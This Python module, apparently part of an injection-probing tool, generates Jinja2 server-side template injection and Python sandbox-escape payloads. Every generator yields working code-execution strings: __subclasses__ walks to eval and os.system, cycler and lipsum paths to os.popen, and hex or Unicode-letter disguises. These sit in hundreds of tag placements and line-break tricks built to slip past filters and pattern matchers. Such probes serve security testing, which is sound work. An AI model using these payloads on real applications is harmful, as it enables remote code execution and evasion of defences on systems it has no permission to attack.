"""Python expressions and Jinja2 templates that run code where only a small notation is meant to be read.

What runs is one thing, where it stands is another: a payload is a place of the notation with a word for the code in it.
`codes(marker)` says what the words stand for; give it to `markers.runs`.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence
from typing import Any

from probes.grammars import evasions
from probes.grammars.ranked import in_turn, ranked


def quoted(code: str) -> str:
    """A Python string literal of the code that shows none of its words."""
    return "'" + "".join(f"\\x{ord(character):02x}" for character in code) + "'"


def climb(start: str, code: str) -> str:
    """An expression that goes from any value to the built-in functions, without one of their names."""
    classes = f"{start}.__class__.__base__.__subclasses__()"
    found = f"[c.__init__ for c in {classes} if c.__name__ == '_wrap_close']"
    return f"[f.__globals__['__builtins__']['eval']({quoted(code)}, f.__globals__) for f in {found}][0]"


def _number(text: str) -> str:
    """The text as arithmetic writes it: a whole number that is taken apart into bytes."""
    return f"({int.from_bytes(text.encode(), 'big')}).to_bytes({len(text)}).decode()"


def by_signs_of_a_formula(code: str) -> str:
    """From a number to the built-in functions with nothing but letters, digits, dots and round brackets.

    Every call is that of an attribute, for programs that allow those.
    """
    names = "(1).__reduce_ex__(2).__getitem__(0).__globals__"
    return f"{names}.get({_number('__builtins__')}).get({_number('eval')}).__call__({_number(climb('()', code))})"


def _without_underscores(start: str, code: str) -> str:
    """A Jinja2 expression without an underscore, by way of the filter `attr`."""
    hidden = "\\x5f\\x5f"
    road = "".join(f"|attr('{hidden}{name}{hidden}')" for name in ("init", "globals"))
    builtins = f"({start}{road})|attr('get')('{hidden}builtins{hidden}')"
    return f"({builtins})|attr('get')('eval')({quoted(code)})"


#: The words for expressions of Python, and of Jinja2, the most useful first.
EXPRESSIONS = (
    "EXPR_PLAIN",
    "EXPR_TUPLE",
    "EXPR_SIGNS",
    "EXPR_EVAL",
    "EXPR_VALUE",
    "EXPR_HIDDEN",
    "EXPR_TEXT",
    "EXPR_LETTERS",
)
JINJA = ("JINJA_SELF", "JINJA_CYCLER", "JINJA_LIPSUM", "JINJA_ATTR", "JINJA_CLASSES", "EXPR_TUPLE", "JINJA_TEXT")


def codes(marker: Any, value: str = "x") -> dict[str, str]:
    """What the words stand for; `value` is the name of an ordinary value."""
    run = marker.python
    jinja_classes = ".__class__.__base__.__subclasses__()|selectattr('__name__','eq','_wrap_close')|first)"
    system = f".__init__.__globals__['system']('{marker.shell}')"
    return {
        "EXPR_PLAIN": run,
        "EXPR_TUPLE": climb("()", run),
        "EXPR_EVAL": f"eval({quoted(run)})",
        "EXPR_VALUE": climb(value, run),
        "EXPR_TEXT": climb("''", run),
        "EXPR_SIGNS": by_signs_of_a_formula(run),
        "EXPR_HIDDEN": f"getattr(getattr(print, {quoted('__self__')}), {quoted('eval')})({quoted(run)})",
        "EXPR_LETTERS": f"𝒆𝒗𝒂𝒍(𝒃𝒚𝒕𝒆𝒔({list(run.encode())}).𝒅𝒆𝒄𝒐𝒅𝒆())",
        "JINJA_SELF": f"self.__init__.__globals__.__builtins__.eval({quoted(run)})",
        "JINJA_CYCLER": f"cycler.__init__.__globals__.os.popen('{marker.shell}').read()",
        "JINJA_LIPSUM": f"lipsum.__globals__['os'].popen('{marker.shell}').read()",
        "JINJA_ATTR": _without_underscores("cycler", run),
        "JINJA_CLASSES": f"({value}{jinja_classes}{system}",
        "JINJA_TEXT": f"(''{jinja_classes}{system}",
    }


_IN_FORMULAS = (
    ("@", "(@)", "V + (@)", "-@", "V * -(@)"),
    (
        "(V\n+ @\n)",
        "V + \\\n@",
        "+-+@",
        "(V, @)[0]",
        "[@][0]",
        "V if (@) else 2",
        "1 if V else (@)",
        "(@) or V",
        "(lambda: (@))()",
        "V # \n+ (@)",
        "(0 * @\n+ V)",
        "V and @",
        "not @",
        "V < @",
        "[@ for c in [1]][0] or 1",
        "V / (1 + @)",
        "V.real + @",
        "V.__add__(@)",
        "abs(@)",
        "max(V, @)",
        "(x := @)",
        "V[@]",
        "{@: V}",
        "{V: @}",
        "f'{@}'",
        "V ** (@)",
        "V % (@)",
        "V // @",
        "(lambda x=@: x)()",
        "V\n@",
        "V;@",
        " @",
        "\t@",
        "V == @",
        "~@",
        "V | @",
        "print(*[@])",
        "dict(x=@)",
        "[V][(@):]",
        "await @",
        "(yield @)",
        "V if V else\\\n @",
        "((((@))))",
        "1.0.__class__(@)",
        "V @ @",
        "@ if V else V",
        "lambda: @",
        "{*[@]}",
        "V is @",
    ),
)


def formulas(value: str) -> Iterator[str]:
    """Formulas in which code stands at every place that a reader of the notation may not look at."""
    places = [[place.replace("V", value) for place in tier] for tier in _IN_FORMULAS]
    words = [[EXPRESSIONS[0], EXPRESSIONS[1]], EXPRESSIONS[2:4], EXPRESSIONS[4:]]
    combined = (place.replace("@", word) for place, word in ranked(places, words))
    yield from in_turn(combined, (place.replace("@", word) for word in EXPRESSIONS for place in places[0]))


_IN_TEMPLATES = (
    ("{{ @ }}", "{% if @ %}{% endif %}", "{{ V\n|upper(@) }}", "{{ @\n}}", "{{ V }}\n{{ @ }}"),
    (
        "{{\n@ }}",
        "{{- @ -}}",
        "{{ V }}{{ @ }}",
        "{# {{ #}{{ @ }}",
        "{ {{ @ }} }",
        "{{ V|upper(@) }}",
        "{{ V|lower(x=@) }}",
        "{{ V|upper|default(@) }}",
        "{{ missing or @ }}",
        "{{ @ if V }}",
        "{{ V if @ }}",
        "{{ V[@] }}",
        "{% if V %}{{ @ }}{% endif %}",
        "{% if @\n%}{% endif %}",
        "{%\nif V and @ %}{% endif %}",
        "{%- if missing or @ -%}{%- endif -%}",
        "{% if missing %}{% elif @ %}{% endif %}",
        "{% if missing %}{% elif missing %}{% elif @ %}{% endif %}",
        "{% if missing %}{% else %}{{ @ }}{% endif %}",
        "{% if missing %}{% elif V %}{{ @ }}{% endif %}",
        "{% set x = @ %}{{ x }}",
        "{% for x in [@] %}{{ x }}{% endfor %}",
        "{% with x = @ %}{{ x }}{% endwith %}",
        "{{ '}' ~ @ }}",
        "{{ '}}' ~ @ }}",
        "{{ {'x': @} }}",
        "{{ '{{' ~ @ }}",
        "{{ [V, @] }}",
        "{{ V ~ @ }}",
        "{{ V == @ }}",
        "{% if V == '}' ~ @ %}{% endif %}",
        "{% if {1: @} %}{% endif %}",
        "{% print(@) %}",
        "{% raw %}{{ V }}{% endraw %}{{ @ }}",
        "{% filter upper %}{{ @ }}{% endfilter %}",
        "{% macro m() %}{{ @ }}{% endmacro %}{{ m() }}",
        "{% macro m(x=@) %}{% endmacro %}{{ m() }}",
        "{% include @ %}",
        "{% block b %}{{ @ }}{% endblock %}",
        "{%+ if @ %}{% endif %}",
        "{{\t@\t}}",
        "{{ not @ }}",
        "{{ -@ }}",
        "{{ V is sameas(@) }}",
        "{{ V|upper }}{{ @|lower }}",
        "{{ @|upper }}",
        "{{ (V, @)|last }}",
        "{{ V.x[@] }}",
        "{{ V.upper(@) }}",
        "${@}",
        "{@}",
        "{{{ @ }}}",
        "{% if V %}{% if @ %}{% endif %}{% endif %}",
        "{{ @ }}{% if V %}",
        "{{ V }}\r{{ @ }}",
        "{% if V %}\r{{ @ }}{% endif %}",
        "{{\r@ }}",
        "{% if not @ %}{% endif %}",
        "<%= @ %>",
        "{{ V|map(@) }}",
        "{{ V|attr(@) }}",
        "{{ x\u2028@ }}",
        "{%if V%}{%endif%}{{@}}",
        "{{ V|format(@) }}",
    ),
)


#: Tags that come to be when what stands between their signs is worked out first, and taken out.
_IN_TWO_STEPS = (
    *("{{% if V %}{% endif %}{ @ }}", "{{% if missing %}x{% endif %}{ @ }}", "{{{ missing }}{ @ }}"),
    *("{{ @ }{% if V %}{% endif %}}", "{{% if V %}{% endif %}% if @ %}{% endif %}", "{{# #}{ @ }}"),
)


def templates(value: str, words: Sequence[str] = JINJA) -> Iterator[str]:
    """Templates in which code stands at every place that a reader of the notation may not look at."""
    places = [[place.replace("V", value) for place in tier] for tier in _IN_TEMPLATES]
    yield from in_turn(
        (place.replace("@", word) for place, word in ranked(places, [words[:1], words[1:4], words[4:]])),
        (places[0][0].replace("@", word) for word in (*words, *EXPRESSIONS)),
        (place.replace("V", value).replace("@", word) for word in words[:2] for place in _IN_TWO_STEPS),
    )


#: Two parts that make a tag when one stands behind the other, and the tag that they make; @ is the code.
_PARTED = (
    *(("{", "{ @ }}"), ("{{", " @ }}"), ("{{ @ }", "}"), ("{", "% if @ %}{% endif %}"), ("{%", " if @ %}{% endif %}")),
    *(("{{ @", " }}"), ("{{", "{ @ }}"), ("{% if @ %}{% endif %", "}"), ("{#}{", "{ @ }}")),
)


def parted(first: str, second: str, words: Sequence[str] = JINJA[:2]) -> Iterator[tuple[str, str, str]]:
    """Templates with what is put into them for the names `first` and `second`, of which each by itself is no tag.

    Also one of the two beside a brace that stands in the template.
    """
    both = f"{{{{ {first} }}}}{{{{ {second} }}}}"
    for one, other in _PARTED:
        for word in words:
            left, right = one.replace("@", word), other.replace("@", word)
            yield both, left, right
            if word == words[0]:
                yield f"{both}{{{{ {first}|lower }}}}{{% if {first} %}}{{{{ {second} }}}}{{% endif %}}", left, right
    for word in words:
        yield f"{{{{{{ {first} }}}}", f"{{ {word} }}}}", ""
        yield f"{{{{ {first} }}}}{{ {word} }}}}", "{", ""
        yield f"{{{{ {first} }}}}}}", f"{{{{ {word} }}", ""


#: What a page shows of what only Python or its engine has, in small letters; V is "Ada".
INTERNALS = (
    *("<class '", "<method-wrapper", "str(object=", "<slot wrapper", "<built-in method", "'__doc__'", "<module '"),
    *("<built-in function", "<function ", "<context", "b'ada'", "['ada']"),
)
#: What a whole letter is where a condition has looked up an attribute that is there, and not where it is OTHER.
REACHED, OTHER = "REACHED", "__other__"
_REACHING = (
    "{{ V.__class__ }}",
    "{{ V['__class__'] }}",
    "{{ V|attr('__class__') }}",
    "{V.__class__}",
    "{{ V|__dir__ }}",
    "{{ V.__class__|upper }}",
    "{{ V.__doc__ }}",
    "{{V . __class__}}",
    "{{ V.__len__ }}",
    "{% if V.__class__ %}{{ V.__class__ }}{% endif %}",
    "{{ V.__class__.__mro__ }}",
    "{{ missing.__class__ }}{{ V.__class__ }}",
    "{{\nV.__class__\n}}",
    "{0.__class__}",
    "{{ V|upper }}{{ V['\\x5f_class__'] }}",
    "{{ V['__cla' ~ 'ss__'] }}",
    "{{ V|map(attribute='__class__')|first }}",
    "{% print V.__class__ %}",
    "{%- if V %}{{- V.__class__ -}}{% endif %}",
    "{{ [V]|map(attribute='__class__')|list }}",
    "{{ (V)['__class__'] }}",
    "{{ V.upper.__class__ }}",
    "$V.__class__ ${V.__class__}",
    "{V!r:{V.__class__}}",
)


#: Where in a template the attribute may be looked up; @ is one of the ways.
_REACHED_AT = (
    *("{{ V|upper|attr('__class__') }}", "{{ V|attr('__class__')|upper }}", "{{ (V|attr('__class__'))|lower }}"),
    *("{% if @ %}REACHED{% endif %}", "{% if V %}{{ @ }}{% endif %}", "{% if missing %}{% else %}{{ @ }}{% endif %}"),
    *("{% if not missing %}{{ @ }}{% endif %}", "{% if missing %}{% elif @ %}REACHED{% endif %}", "{{ V ~ @ }}"),
    *("{% if V and @ %}REACHED{% endif %}", "{% for x in [@] %}{{ x }}{% endfor %}", "{{ '}}' ~ @ }}", "{{ (@, 1) }}"),
    *("{% with x = @ %}{{ x }}{% endwith %}", "{% filter upper %}{{ @ }}{% endfilter %}", "{% set x = @ %}{{ x }}"),
    *("{{ @ if V }}", "{{ missing or @ }}", "{{ V and @ }}", "{{ {'x': @} }}", "{% block b %}{{ @ }}{% endblock %}"),
    *("{% macro m() %}{{ @ }}{% endmacro %}{{ m() }}", "{% macro m(x=@) %}{{ x }}{% endmacro %}{{ m() }}"),
    *("{% raw %}{{ V }}{% endraw %}{{ @ }}", "{# {{ #}{{ @ }}", "{%- print(@) -%}", "{{\t@\t}}", "{{ @\r}}"),
    *("{{ V }}{{ @ }}", "{{ [@] | first }}", "{{ V }}\n{{ @ }}"),
    "{{ missing | default(@) }}",
)
_WAYS = ("V.__class__", "V['__class__']", "V|attr('__class__')", "V.__class__.__mro__")
#: What a home-made notation looks up: methods by the name of a filter, what Python has by that of a particular.
_BY_NAME = (
    *("{{ V|encode }}", "{{ V|splitlines }}", "{{ V|split }}", "{{ V|__repr__ }}{{ V|__class__ }}", "{{ V|__dir__ }}"),
    *("{{ __class__ }}", "{{ __dict__ }}", "{{ keys }}", "{{ items }}", "{{ __init__ }}", "{{ __builtins__ }}"),
    *("{{ print }}", "{{ str }}", "{{ __import__ }}", "{{ copy }}", "{{ self._TemplateReference__context }}"),
)
#: These every template of Jinja2 has.
_GLOBALS = ("range", "dict", "lipsum", "cycler", "joiner", "namespace")


def reaching(value: str) -> Iterator[str]:
    """Templates that show what only Python has, one of INTERNALS, without a call."""
    places = (place.replace("@", _WAYS[number % 3]) for number, place in enumerate(_REACHED_AT))
    ways = (place.replace("@", way) for place in _REACHED_AT[3:5] for way in _WAYS)
    own = (f"{{{{ {name} }}}}" for name in evasions.names() if name not in (*_GLOBALS, value))
    for one in in_turn(_REACHING, places, ways, _BY_NAME, own):
        yield re.sub(r"\bV\b", value, one)


#: What stands between the parts of a tag: who looks for tags with a pattern may look within one line only.
_BREAKS = (
    *("\n", " ", "\r\n", "\r", " " * 70, "\t", "\n\n"),
    *("\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u00a0", "\n" * 40, ""),
)
#: Calls and attributes that a sandbox allows, and what a letter shows where V is "Ada".
_CALLS = (
    *(("V.replace('d', 'ZZ')", "AZZa"), ("V.zfill(6)", "000Ada"), ("V.partition('d')", "('A', 'd', 'a')")),
    *(("V.join(['1', '2'])", "1Ada2"), ("range(4)|list", "[0, 1, 2, 3]"), ("V['zfill'](6)", "000Ada")),
    *(("(V|attr('zfill'))(6)", "000Ada"), ("dict(a=V)", "{'a': 'Ada'}"), ("V.swapcase().zfill(5)", "00aDA")),
    *(("namespace(a=V).a.zfill(6)", "000Ada"), ("''.join([V, 'x', V])", "AdaxAda"), ("(V).center(7, '*')", "**Ada**")),
    *(("[V].copy()", "['Ada']"), ("{'k': V}.get('k').zfill(6)", "000Ada"), ("cycler(V, 'x').next().zfill(6)", "000Ada")),
    *(("(V).find('d') + 40", "41"), ("(V, 1).count(V) ~ 'st'", "1st"), ("joiner(V)() ~ V.zfill(6)", "000Ada")),
)
#: What a sandbox does for everybody, where nothing else looks at a template.
OPENLY_CALLING = (("{{ name.zfill(6) }}", "000Ada"), ("{{ name.swapcase() }}", "aDA"))
_CALLED_AT = (
    *("{{B@B}}", "{{ @B}}", "{{B@ }}", "{{ V }}{{ @B}}", "{{ VB}}{{ @ }}", "{{-B@B-}}", "{{ V }}B{{ @B}}B{{ V }}"),
    *("{{ '}}'B~ @ }}", "{#B}}#}{{ @B}}"),
    *("{%Bif V %}{{B@ }}{% endif %}", "{{ @B|B lowerB|upper }}", "{{ V|upperB }}{{B@B}}"),
    *("{%Bset x = @B%}{{ x }}", "{%Bprint @B%}"),
    *("{% for x inB[@] %}{{ x }}{% endfor %}", "{% if missing %}{% elif VB%}{{ @ }}{% endif %}"),
    *("{{ @Bif V }}", "{{B{'k':B@} }}", "{{B(@) }}"),
    *("{{ V ~B@ }}", "{{ missing orB@ }}", "{{ 'a}' ~B@ }}", "{% raw %}B{% endraw %}{{ @ }}"),
)
#: What a condition calls; T is true, and F is not.
_CONDITIONS = (
    ("V.startswith('A')", "V.startswith('B')"),
    *(("V.islower() == false", "V.islower()"), ("V.find('d') == 1", "V.isdigit()")),
)
_CALLED_IF = (
    *("{%Bif @ %}", "{% ifB@B%}", "{% if V andB@ %}"),
    *("{%-Bif @B%}", "{% if missing %}{%Belif @ %}", "{%+ if @B%}"),
)


def calling(value: str) -> Iterator[tuple[str, str]]:
    """Templates that call what a sandbox allows, or reach an attribute of it, and what a letter shows then.

    With every sign between the parts of a tag that a pattern may stop at. `value` is "Ada".
    """

    def filled(text: str, sign: str) -> str:
        return re.sub(r"(?<![A-Za-z_'])V(?![A-Za-z_'])", value, re.sub("B", lambda _: sign, text))

    def called(place: str, sign: str, number: int) -> tuple[str, str]:
        call, shown = _CALLS[number % len(_CALLS)]
        upper = "|upper" in place and "@B|" in place
        return filled(place, sign).replace("@", filled(call, "B")), shown.upper() if upper else shown

    def conditional(place: str, sign: str, number: int) -> tuple[str, str]:
        true, false = _CONDITIONS[number % len(_CONDITIONS)]
        texts = [place + text + "{% endif %}" for text in (REACHED, OTHER)]
        made = (filled(text, sign).replace("@", filled(one, "B")) for text, one in zip(texts, (true, false), strict=True))
        return "".join(made), REACHED

    signs = [_BREAKS[:2], _BREAKS[2:6], _BREAKS[6:]]
    yield from in_turn(
        (called(place, sign, number) for number, (place, sign) in enumerate(ranked([_CALLED_AT[:3], _CALLED_AT[3:]], signs))),
        (conditional(place, sign, number) for number, (place, sign) in enumerate(ranked([_CALLED_IF[:2], _CALLED_IF[2:]], signs))),
        (called("{{ @B}}", sign, number) for sign in _BREAKS[:2] for number in range(len(_CALLS))),
    )
